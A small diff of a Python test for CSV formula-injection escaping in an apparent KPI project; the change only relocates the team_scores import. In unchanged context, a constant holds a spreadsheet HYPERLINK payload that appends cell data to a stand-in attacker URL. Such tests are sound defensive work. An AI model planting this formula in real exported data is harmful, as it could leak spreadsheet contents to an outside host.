@@ -13,8 +13,8 @@ from kpidesk.cli.main import main
 from kpidesk.data.db import Database
 from kpidesk.domain.csvsafe import FORMULA_STARTS, escape_cell
 from kpidesk.engine.run import run_for_date
-from kpidesk.services import kpi
 from kpidesk.services.caller import SYSTEM_CLI
+from kpidesk.services.team import team_scores
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
@@ -52,7 +52,7 @@ def test_team_export_escapes_names_logins_profiles_and_rule_names(
     run_for_date(db, dt.date(2026, 3, 20))
 
     path = tmp_path / "team.csv"
-    kpi.team_scores(db, SYSTEM_CLI, as_of=dt.date(2026, 3, 20)).to_csv(path)
+    team_scores(db, SYSTEM_CLI, as_of=dt.date(2026, 3, 20)).to_csv(path)
     rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
     assert rows[0][3:] == ["'=1+1", "'=1+1: score (%)"]
     body = sorted(rows[1:])
